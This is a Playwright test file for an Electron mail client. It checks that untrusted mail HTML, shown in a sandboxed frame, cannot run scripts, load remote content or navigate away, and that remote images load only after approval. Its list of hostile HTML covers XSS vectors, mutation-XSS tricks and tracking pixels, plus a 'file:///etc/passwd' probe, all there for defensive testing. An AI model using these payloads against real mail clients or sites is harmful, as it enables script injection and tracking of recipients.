import type { Page } from '@playwright/test'
import { expect, test } from './support/small-app.ts'
import { watchedServer } from './support/watched-server.ts'

/** The frame that the window shows mails in: same origin so that its height can be read, but no scripts at all. */
const SANDBOX = 'allow-same-origin'

async function showMail(window: Page, html: string): Promise<void> {
  await window.evaluate(
    async ([sandbox, srcdoc]) => {
      document.querySelector('iframe')?.remove()
      const frame = document.createElement('iframe')
      frame.setAttribute('sandbox', sandbox ?? '')
      frame.srcdoc = srcdoc ?? ''
      const loaded = new Promise(resolve => frame.addEventListener('load', resolve))
      document.body.append(frame)
      await loaded
    },
    [SANDBOX, html],
  )
}

/** What senders try, without any sanitiser in between: the frame and the policy have to hold alone. */
const hostile = (url: string): readonly string[] => [
  `<script>top.wasHacked = 1; fetch('${url}/script')</script>`,
  `<script src="${url}/script.js"></script>`,
  `<img src=x onerror="top.wasHacked = 1">`,
  `<img src="${url}/pixel.gif" width=1 height=1>`,
  `<img srcset="${url}/pixel.gif 1x, ${url}/pixel2.gif 2x">`,
  `<picture><source srcset="${url}/a.webp"><img src="${url}/a.png"></picture>`,
  `<svg onload="top.wasHacked = 1"><image href="${url}/a.svg"/><use href="${url}/b.svg#x"/></svg>`,
  `<svg><script>top.wasHacked = 1</script><foreignObject><iframe src="${url}/f"></iframe></foreignObject></svg>`,
  `<style>@import url(${url}/a.css); body { background: url(${url}/bg.png) } @font-face { font-family: x; src: url(${url}/f.woff2) } p { font-family: x }</style><p>x</p>`,
  `<link rel=stylesheet href="${url}/a.css"><link rel=prefetch href="${url}/p"><link rel=preconnect href="${url}"><link rel=dns-prefetch href="${url}"><link rel=icon href="${url}/i">`,
  `<div style="background-image:url(${url}/bg.png);list-style-image:url(${url}/l.png);cursor:url(${url}/c.cur)">x</div>`,
  `<table background="${url}/t.png"><tr><td background="${url}/td.png">x</table>`,
  `<body background="${url}/body.png" onload="top.wasHacked = 1">`,
  `<meta http-equiv=refresh content="0;url=${url}/refresh">`,
  `<meta http-equiv=refresh content="0;url=javascript:top.wasHacked=1">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'"><script>top.wasHacked=1</script>`,
  `<base href="${url}/"><img src="relative.png">`,
  `<iframe src="${url}/frame"></iframe><frameset><frame src="${url}/frame2"></frameset>`,
  `<iframe srcdoc="<script>top.wasHacked=1</script><img src='${url}/nested.gif'>"></iframe>`,
  `<object data="${url}/o.swf"></object><embed src="${url}/e.swf"><applet code="${url}/a.class"></applet>`,
  `<video src="${url}/v.mp4" autoplay poster="${url}/p.png"></video><audio src="${url}/a.mp3" autoplay></audio><track src="${url}/t.vtt">`,
  `<form action="${url}/form" method=post id=f><input name=q value=1 autofocus onfocus="top.wasHacked=1"><button>Go</button></form>`,
  `<input type=image src="${url}/input.png"><details open ontoggle="top.wasHacked=1">x</details>`,
  `<a href="javascript:top.wasHacked=1" id=link>x</a>`,
  `<a href="${url}/link" target=_top id=link>x</a>`,
  `<a href="${url}/link" target=_blank id=link ping="${url}/ping">x</a>`,
  `<a href="${url}/link" id=link>x</a>`,
  `<a href="${url}/file" download id=link>x</a>`,
  `<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.wasHacked=1&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=top.wasHacked=1>">`,
  `<template><script>top.wasHacked=1</script></template><marquee onstart="top.wasHacked=1">x</marquee>`,
  `<portal src="${url}/portal"></portal><xml src="${url}/x"></xml><isindex action="${url}/i">`,
]

test('a hostile mail runs nothing, reaches nobody and leads nowhere, with no sanitiser at all', async ({
  small,
}) => {
  const server = await watchedServer()
  const { app, window, call } = small
  for (const mail of hostile(server.url)) {
    await showMail(window, mail)
    // A person presses everything there is.
    for (const selector of ['#link', 'button']) {
      const target = window.frameLocator('iframe').locator(selector)
      if ((await target.count()) > 0)
        await target
          .first()
          .click({ timeout: 2_000, force: true, noWaitAfter: true })
          .catch(() => {})
    }
    await window.evaluate(
      () => new Promise(resolve => requestAnimationFrame(() => requestAnimationFrame(resolve))),
    )
    expect(await window.evaluate(() => 'wasHacked' in window), mail).toBe(false)
    expect(window.url(), mail).toBe('app://tandem/index.html')
    expect(server.hits(), mail).toEqual([])
  }
  expect(app.windows()).toHaveLength(1)
  expect(await call('directory.get', {})).toMatchObject({ ok: true })
  await server.close()
})

test('negative control: the same script runs in a frame that allows scripts outside our policy', async ({
  small,
}) => {
  const { app } = small
  const wasHacked = await app.evaluate(async ({ BrowserWindow }) => {
    const window = new BrowserWindow({ show: false })
    await window.loadURL('data:text/html,<iframe srcdoc="<script>parent.wasHacked = 1</script>"></iframe>')
    const seen: unknown = await window.webContents.executeJavaScript('window.wasHacked')
    window.destroy()
    return seen
  })
  expect(wasHacked).toBe(1)
})

const MESSAGE_ID = '01890000-0000-7000-8000-000000000001'
const PICTURE =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

/** The picture's natural width in the mail; 0 when it was not loaded. */
const pictureWidth = (window: Page): Promise<number> =>
  window
    .frameLocator('iframe')
    .locator('img')
    .evaluate(async image => {
      const picture = image as HTMLImageElement
      await picture.decode().catch(() => {})
      return picture.naturalWidth
    })

type Allowed = { readonly ok: true; readonly value: { readonly images: readonly { readonly src: string }[] } }

test('remote images appear only after the agent asked for them, through main, without cookies or referrer', async ({
  launchSmall,
}) => {
  const { app, window, call } = await launchSmall({
    args: ['--host-resolver-rules=MAP shop.example 203.0.113.9'],
  })
  await app.evaluate(({ session }, picture) => {
    Object.assign(globalThis, { fetched: [] })
    // Stands in for the shop's server, which no test may depend on.
    session.fromPartition('mail-images', { cache: false }).protocol.handle('https', request => {
      const { url, headers } = request
      Reflect.get(globalThis, 'fetched').push([url, headers.get('cookie'), headers.get('referer')])
      return new Response(Buffer.from(picture, 'base64'), { headers: { 'content-type': 'image/png' } })
    })
  }, PICTURE)
  const fetched = () => app.evaluate(() => Reflect.get(globalThis, 'fetched') as unknown)
  const url = 'https://shop.example/offer.png?agent=lena'

  await showMail(window, `<img src="${url}">`)
  expect(await pictureWidth(window)).toBe(0)
  await showMail(window, '<img src="app://mail-image/guessed">')
  expect(await pictureWidth(window)).toBe(0)
  expect(await fetched()).toEqual([])

  const reply = (await call('mail.allowImages', { messageId: MESSAGE_ID, urls: [url] })) as Allowed
  await showMail(window, `<img src="${reply.value.images[0]?.src}">`)
  expect(await pictureWidth(window)).toBe(1)
  expect(await fetched()).toEqual([[url, null, null]])
})

test('a picture that is none, or leads into a network of one’s own, is not shown', async ({
  launchSmall,
}) => {
  const server = await watchedServer()
  const port = new URL(server.url).port
  const { app, window, call } = await launchSmall({
    args: ['--host-resolver-rules=MAP rebound.example 127.0.0.1, MAP shop.example 203.0.113.9'],
  })
  await app.evaluate(({ session }, local) => {
    Object.assign(globalThis, { fetched: [] })
    session.fromPartition('mail-images', { cache: false }).protocol.handle('https', ({ url }) => {
      Reflect.get(globalThis, 'fetched').push(new URL(url).pathname)
      if (url.endsWith('/moved'))
        return new Response(null, { status: 302, headers: { location: `${local}/router` } })
      return new Response('<svg xmlns="http://www.w3.org/2000/svg"/>', {
        headers: { 'content-type': 'image/svg+xml' },
      })
    })
  }, server.url)
  const urls = [
    `https://rebound.example:${port}/pixel.gif`,
    'https://shop.example/document.svg',
    'https://shop.example/moved',
  ]
  const reply = (await call('mail.allowImages', { messageId: MESSAGE_ID, urls })) as Allowed
  expect(reply.value.images).toHaveLength(3)
  for (const { src } of reply.value.images) {
    await showMail(window, `<img src="${src}">`)
    expect(await pictureWidth(window), src).toBe(0)
  }
  // The name that leads to this machine was not even asked.
  expect(await app.evaluate(() => Reflect.get(globalThis, 'fetched') as unknown)).toEqual([
    '/document.svg',
    '/moved',
  ])
  expect(server.hits()).toEqual([])
  await server.close()
})

test('no address is given out for what may never be fetched, nor while images are switched off', async ({
  launchSmall,
}) => {
  const { call } = await launchSmall()
  const urls = ['http://shop.example/a.png', 'https://192.168.1.1/a.png', 'file:///etc/passwd', 'nonsense']
  const none = { ok: true, value: { images: [] } }
  expect(await call('mail.allowImages', { messageId: MESSAGE_ID, urls })).toEqual(none)
  await call('settings.patch', { remoteImages: 'never' })
  expect(
    await call('mail.allowImages', { messageId: MESSAGE_ID, urls: ['https://shop.example/a.png'] }),
  ).toMatchObject({
    ok: false,
    error: { code: 'not-allowed' },
  })
})
